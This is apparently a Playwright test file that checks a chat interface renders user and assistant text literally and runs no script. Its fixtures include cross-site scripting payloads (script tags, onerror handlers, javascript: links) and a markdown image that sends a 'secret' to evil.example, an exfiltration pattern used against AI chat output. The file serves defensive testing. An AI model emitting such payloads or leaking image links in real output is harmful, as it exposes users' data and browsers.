"""Hostile and ordinary text in a real browser: what is read is what was written, and nothing else happens."""

import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page

IMAGE = "![x](https://evil.example/p?leak=secret)"
HOSTILE = [
    "It costs $5 and $10",
    "$HOME/$USER",
    "**$4** and $x$ and $$y$$",
    ":red[x] :smile: :material/home: :material_home: :streamlit: :+1:",
    "dict:key[0] Nota:importante{x} ::leaf[y] :::box :small[z]{a=b} :smile:{x} :a:b:smile:",
    "a -> b -- c >= d <- e <-> f <= g ~= h",
    "->",
    "foo_bar_baz *a* _b_ ~c~ ~~d~~ `e` |f| \\g & &amp; &#36; # h",
    "<img src=x onerror='window.ran=1'> <script>window.ran=1</script>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "[x](javascript:window.ran=1) [y](data:text/html,z)",
    IMAGE,
    f"[{IMAGE}](https://evil.example/q)",
    "# no heading",
    "1. no list",
    "- no list",
    "+ no list",
    "> no quote",
    "| a | b |",
    "=== --- ***",
    "https://evil.example/:smile:/a_b?c=$d see www.evil.example and me@evil.example",
    "日本/语 x 🚀 👨‍👩‍👧‍👦 שלום",
    "``` ` `` ~~~",
    "$$ \\(x\\) \\[y\\] $$",
    "[^1] [a]: /b [ ] [x]",
]
MARKDOWN = re.compile(r"\*|!\[|\[x\]\(|\\\(|`|^([#>+-]|1\.) ")
LINES = [
    "one\ntwo\n\n\nthree",
    "    four spaces\n  two   three\n\nend",
    "\n- a\n- b\n\n1. c\n# d\n> e\n```\nf -> g\n```\n---\nh\n===",
    "| a | b |\n|---|---|\n| $c | :red[d] |",
    "    $ only\n    indented",
]
# What an assistant wrote, and what is read.
ASSISTANT = [
    *((text, text) for text in HOSTILE if not MARKDOWN.search(text)),
    ("**$4** and \\$5", "$4 and $5"),
    (IMAGE, "x"),
    (f"see [{IMAGE}](https://example.com/q)", "see x"),
    ("![](https://evil.example/p.png)", "https://evil.example/p.png"),
    ("[x](javascript:window.ran=1)", "[x](javascript:window.ran=1)"),
    (
        "`$a` and `:red[x]` and `a -> b` and `:smile:` and `` a`b ``",
        "$a and :red[x] and a -> b and :smile: and a`b",
    ),
    ('`icon=":material/home:"` :smile:', 'icon=":material/home:" :smile:'),
    (
        "- see\n\n  ```py\n  if x:\n      icon = ':material/home:'\n  ```",
        "see\nif x:\n    icon = ':material/home:'",
    ),
    ("> **->** x\n> y", "-> x y"),
    ("[a -> b :smile:](https://example.com/a_b)", "a -> b :smile:"),
    ("***a** b* __c__ ~~d~~ *e*f", "a b c d ef"),
    ("half a [link](https://exa", "half a [link](https://exa"),
    ("half \\(x + y", "half (x + y"),
    ("half $$x + y", "half $$x + y"),
    ("**half bold", "**half bold"),
]
CODE = [
    "$HOME and $USER",
    "graph TD\n    A-->B",
    ":red[x] :smile: -> <b>\n\n    deep\n\ttab",
    "st.button('x', icon=':material/home:')",
    "a\n````\nb",
]
LABELS = [" ".join(text.split()) for text in [*HOSTILE, "two\nlines  and   spaces"]]
MATHS = [
    r"\(x^2\) for $5",
    r"\[x^2\] for $5",
    "$$x^2$$ for $5",
    "for $5:\n\n$$\nx\n= y\n+ z\n$$\n\n- a",
    "| $5 | \\(a\\|b\\) |\n|--|--|\n| $6 | $7 |",
]

READ = "e => e.innerText.replaceAll('\\u00a0', ' ').replace(/[ \\t]+$/gm, '').replace(/\\n+$/, '')"


def fenced(code: str, language: str = "") -> str:
    return f"~~~~~{language}\n{code}\n~~~~~"


@pytest.fixture(scope="module")
def address(serve_script: Callable[..., str], tmp_path_factory: pytest.TempPathFactory) -> str:
    samples = {
        "person": HOSTILE + LINES,
        "assistant": [text for text, _read in ASSISTANT]
        + [fenced(code, "mermaid" if code.startswith("graph") else "py") for code in CODE]
        + MATHS,
        "label": LABELS,
        "toast": f"{HOSTILE[3]} {IMAGE}",
    }
    file = tmp_path_factory.mktemp("samples") / "samples.json"
    file.write_text(json.dumps(samples), encoding="utf-8")
    return serve_script(Path(__file__).parent / "markdown_script.py", NEXUS_SAMPLES=str(file))


def read(page: Page, place: str, number: int, selector: str = '[data-testid="stMarkdownContainer"]') -> str:
    return str(page.locator(f".st-key-{place}-{number} {selector}").first.evaluate(READ))


def assert_inert(page: Page) -> None:
    assert page.evaluate("window.ran") is None
    assert page.locator("main img, main iframe, main script, main svg[id^=mermaid]").count() == 0
    hrefs = page.eval_on_selector_all("main a[href]", "all => all.map(a => a.protocol)")
    assert set(hrefs) <= {"http:", "https:", "mailto:"}


def test_a_persons_text_reads_as_typed(open_page: Callable[[str], Page], address: str) -> None:
    page = open_page(f"{address}/?show=person")
    for number, text in enumerate(HOSTILE + LINES):
        assert read(page, "person", number) == text
    assert_inert(page)


def test_an_assistants_text_keeps_its_marks_and_nothing_else(open_page: Callable[[str], Page], address: str) -> None:
    page = open_page(f"{address}/?show=assistant")
    for number, (_text, expected) in enumerate(ASSISTANT):
        blocks = page.locator(f'.st-key-assistant-{number} [data-testid="stMarkdownContainer"]')
        assert "\n".join(blocks.evaluate_all(f"all => all.map({READ})")).replace("\n\n", "\n") == expected
    assert_inert(page)


def test_code_blocks_show_every_byte_and_no_diagram(open_page: Callable[[str], Page], address: str) -> None:
    page = open_page(f"{address}/?show=assistant")
    for number, code in enumerate(CODE, start=len(ASSISTANT)):
        assert page.locator(f".st-key-assistant-{number} pre code").text_content() == code


def test_maths_is_drawn_and_money_beside_it_stays(open_page: Callable[[str], Page], address: str) -> None:
    page = open_page(f"{address}/?show=assistant")
    for number in range(len(ASSISTANT) + len(CODE), len(ASSISTANT) + len(CODE) + len(MATHS)):
        block = page.locator(f".st-key-assistant-{number}")
        assert block.locator(".katex").count() == 1
        assert block.locator(".katex-error").count() == 0
        assert "$5" in block.inner_text()


PLACES = {
    "button": "button p",
    "expander": "summary p",
    "tabs": '[role="tab"] p',
    "link": "a p",
    "title": "h3",
    "metric": '[data-testid="stMetricLabel"] p',
}


def test_labels_and_toasts_are_literal(open_page: Callable[[str], Page], address: str) -> None:
    page = open_page(f"{address}/?show=label")
    for place, selector in PLACES.items():
        for number, text in enumerate(LABELS):
            assert (place, read(page, place, number, selector)) == (place, text)
            assert page.locator(f".st-key-{place}-{number} {selector} a").count() == 0
    toast = page.locator('[data-testid="stToast"] [data-testid="stMarkdownContainer"]')
    assert toast.evaluate(READ) == f"{HOSTILE[3]} {IMAGE}"
    assert page.locator('[data-testid="stToast"] img').count() == 0
    assert_inert(page)
